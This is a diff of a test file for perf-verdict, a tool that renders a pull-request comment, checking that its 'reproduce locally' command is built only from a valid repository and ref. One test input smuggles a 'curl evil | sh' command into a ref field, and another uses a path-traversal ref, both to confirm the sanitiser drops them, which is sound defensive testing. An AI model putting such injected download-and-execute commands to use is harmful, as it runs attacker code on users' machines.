@@ -189,7 +189,7 @@ describe('the PR comment', () => {
       '- To merge anyway, someone with write access adds the label `perf:ok` or comments `/perf-verdict accept`: the check then passes and this comment says who accepted.',
     );
     expect(body).toContain(
-      `- Reproduce locally, in a clone that has both commits: \`npx perf-verdict gate --base ${'c'.repeat(40)} --head ${'b'.repeat(40)} --budget 20\``,
+      `- Reproduce locally, in a clone that has both commits: \`perf-verdict gate --base ${'c'.repeat(40)} --head ${'b'.repeat(40)} --budget 20\``,
     );
     expect(body).toContain('REVIEW alone does not fail the check.');
     const accepted = renderComment(
@@ -204,6 +204,29 @@ describe('the PR comment', () => {
     expect(renderComment(report([row({ id: 'ok' })]), {}, 'd')).not.toContain('What to do next');
     expect(fine).toContain('What to do next');
   });
+
+  it.each([
+    [{ repository: 'octo/perf-verdict', ref: 'v1' }, 'npx --yes github:octo/perf-verdict#v1'],
+    [
+      { repository: 'octo/tools', ref: 'f'.repeat(40) },
+      `npx --yes github:octo/tools#${'f'.repeat(40)}`,
+    ],
+    // The ref comes from a workflow file the PR may have written: nothing but a ref survives.
+    [
+      { repository: 'octo/perf-verdict', ref: 'v1; curl evil | sh' },
+      'npx --yes github:octo/perf-verdict',
+    ],
+    [{ repository: 'octo/perf-verdict', ref: '../../x' }, 'npx --yes github:octo/perf-verdict'],
+    [{ repository: 'not a repo', ref: 'v1' }, 'perf-verdict'],
+  ])(
+    'the reproduce command runs the perf-verdict that ran (%o), never an npm name',
+    (action, cli) => {
+      const body = renderComment(casesReport(), { links: { ...LINKS, action } }, 'd');
+      expect(body).toContain(
+        `- Reproduce locally, in a clone that has both commits: \`${cli} gate --base ${'c'.repeat(40)} --head ${'b'.repeat(40)} --budget 20\``,
+      );
+    },
+  );
 
   it('links come from the values passed in: run, commits, files at the head sha', () => {
     const body = renderComment(casesReport(), { links: LINKS }, 'd');
